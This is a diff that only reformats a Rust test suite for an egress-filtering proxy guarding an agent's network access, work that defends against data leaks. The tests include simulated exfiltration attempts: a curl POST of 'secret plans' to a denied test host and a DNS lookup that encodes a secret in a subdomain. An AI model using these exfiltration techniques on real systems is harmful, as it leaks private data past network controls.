@@ -40,18 +40,13 @@ fn curl(lab: &Lab, arguments: &[&str]) -> Result<Answer> {
 fn packets_to(lab: &Lab, host: &str) -> usize {
     let (v4, v6) = address(host);
     let addresses = [IpAddr::V4(v4), IpAddr::V6(v6)];
-    lab.internet
-        .capture
-        .matching(|packet| addresses.contains(&packet.destination))
-        .len()
+    lab.internet.capture.matching(|packet| addresses.contains(&packet.destination)).len()
 }
 
 fn allowed(lab: &Lab) -> Result<Attempt> {
     let answer = curl(lab, &["https://api.allowed.test/hello"])?;
     let seen = lab.internet.requests.at("api.allowed.test");
-    let kept = answer.status == 200
-        && answer.body.starts_with("hello from api.allowed.test")
-        && seen.len() == 1;
+    let kept = answer.status == 200 && answer.body.starts_with("hello from api.allowed.test") && seen.len() == 1;
     let outside = seen.first().map_or("nothing".to_owned(), |request| {
         format!(
             "origin: {} {} over {}, SNI {}",
@@ -61,12 +56,7 @@ fn allowed(lab: &Lab) -> Result<Attempt> {
             request.authority
         )
     });
-    Ok(Attempt {
-        tried: "curl https://api.allowed.test/hello".to_owned(),
-        got: answer.summary(),
-        outside,
-        kept,
-    })
+    Ok(Attempt { tried: "curl https://api.allowed.test/hello".to_owned(), got: answer.summary(), outside, kept })
 }
 
 fn protocol(alpn: Option<&str>) -> &str {
@@ -76,21 +66,11 @@ fn protocol(alpn: Option<&str>) -> &str {
 /// The address is given to curl, so that the refusal is the proxy's and not only the name server's.
 fn denied_host(lab: &Lab) -> Result<Attempt> {
     let resolve = format!("denied.test:443:{}", address("denied.test").0);
-    let answer = curl(
-        lab,
-        &[
-            "--resolve",
-            &resolve,
-            "https://denied.test/upload",
-            "-d",
-            "secret plans",
-        ],
-    )?;
+    let answer = curl(lab, &["--resolve", &resolve, "https://denied.test/upload", "-d", "secret plans"])?;
     let packets = packets_to(lab, "denied.test");
     let kept = answer.is_denial() && !answer.field("decision_id").is_empty() && packets == 0;
     Ok(Attempt {
-        tried: "curl https://denied.test/upload -d 'secret plans'  (its own address for it)"
-            .to_owned(),
+        tried: "curl https://denied.test/upload -d 'secret plans'  (its own address for it)".to_owned(),
         got: answer.summary(),
         outside: format!("{packets} packets to that host"),
         kept,
@@ -107,17 +87,11 @@ fn redacted(lab: &Lab) -> Result<Attempt> {
          print(answer.status)"
     );
     let outcome = agent(lab).python(&program)?;
-    let seen = lab
-        .internet
-        .requests
-        .at("api.allowed.test")
-        .pop()
-        .unwrap_or_default();
+    let seen = lab.internet.requests.at("api.allowed.test").pop().unwrap_or_default();
     let text = seen.text();
     let received: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
     let masked = received.get("note") == Some(&json!("SSN [SSN], mail [EMAIL]"));
-    let clean =
-        !text.contains(SSN) && !text.contains(MAIL) && received.get("amount") == Some(&json!(12));
+    let clean = !text.contains(SSN) && !text.contains(MAIL) && received.get("amount") == Some(&json!(12));
     Ok(Attempt {
         tried: format!("Python POSTs {sent}"),
         got: last_line(&outcome),
@@ -141,15 +115,10 @@ fn refused_udp(lab: &Lab) -> Result<Attempt> {
     );
     let outcome = agent(lab).python(&program)?;
     lab.settle()?;
-    let packets = lab
-        .internet
-        .capture
-        .matching(|packet| packet.contains(b"demo-quic-marker"))
-        .len();
+    let packets = lab.internet.capture.matching(|packet| packet.contains(b"demo-quic-marker")).len();
     let refused = outcome.stdout.lines().count() == 2 && !outcome.stdout.contains("sent");
     Ok(Attempt {
-        tried: "Python sends QUIC datagrams straight to UDP/443 of an allowed host, IPv4 and IPv6"
-            .to_owned(),
+        tried: "Python sends QUIC datagrams straight to UDP/443 of an allowed host, IPv4 and IPv6".to_owned(),
         got: last_line(&outcome),
         outside: format!("{packets} packets"),
         kept: packets == 0 && refused,
@@ -158,16 +127,10 @@ fn refused_udp(lab: &Lab) -> Result<Attempt> {
 
 fn refused_name(lab: &Lab) -> Result<Attempt> {
     let name = "c2VjcmV0.exfil.denied.test";
-    let outcome = lab
-        .agent(AGENT)
-        .python(&format!("import socket\nsocket.getaddrinfo('{name}', 443)"))?;
+    let outcome = lab.agent(AGENT).python(&format!("import socket\nsocket.getaddrinfo('{name}', 443)"))?;
     lab.settle()?;
     let queries = lab.internet.queries.count("exfil");
-    let packets = lab
-        .internet
-        .capture
-        .matching(|packet| packet.contains(b"exfil"))
-        .len();
+    let packets = lab.internet.capture.matching(|packet| packet.contains(b"exfil")).len();
     Ok(Attempt {
         tried: format!("Python looks up {name}  (a secret in a name)"),
         got: last_line(&outcome),
@@ -179,14 +142,9 @@ fn refused_name(lab: &Lab) -> Result<Attempt> {
 fn shadowed(lab: &Lab, daemon: &Daemon) -> Result<Attempt> {
     let answer = curl(lab, &["https://shadow.allowed.test/hello"])?;
     let seen = lab.internet.requests.at("shadow.allowed.test").len();
-    let record = daemon.record(|record| {
-        field(record, "host") == "shadow.allowed.test" && field(record, "path") == "/hello"
-    })?;
-    let would = format!(
-        "recorded: {} in mode {}",
-        field(&record, "decision"),
-        field(&record, "mode")
-    );
+    let record =
+        daemon.record(|record| field(record, "host") == "shadow.allowed.test" && field(record, "path") == "/hello")?;
+    let would = format!("recorded: {} in mode {}", field(&record, "decision"), field(&record, "mode"));
     Ok(Attempt {
         tried: "curl https://shadow.allowed.test/hello  (a rule in shadow mode)".to_owned(),
         got: format!("{}; {would}", answer.summary()),
@@ -200,13 +158,7 @@ fn shadowed(lab: &Lab, daemon: &Daemon) -> Result<Attempt> {
 
 fn approval(lab: &Lab) -> Result<Attempt> {
     let url = "https://payments.allowed.test/v1/charges";
-    let headers = [
-        "-H",
-        "content-type: application/json",
-        "-d",
-        r#"{"amount": 9000}"#,
-        url,
-    ];
+    let headers = ["-H", "content-type: application/json", "-d", r#"{"amount": 9000}"#, url];
     let answer = curl(lab, &headers)?;
     let seen = lab.internet.requests.at("payments.allowed.test").len();
     let id = answer.field("approval_id");
@@ -235,10 +187,6 @@ fn field<'a>(record: &'a Value, name: &str) -> &'a str {
 
 /// What a person would look at: the last line that was written.
 fn last_line(outcome: &Outcome) -> String {
-    let text = if outcome.stdout.trim().is_empty() {
-        &outcome.stderr
-    } else {
-        &outcome.stdout
-    };
+    let text = if outcome.stdout.trim().is_empty() { &outcome.stderr } else { &outcome.stdout };
     text.trim().lines().last().unwrap_or_default().to_owned()
 }
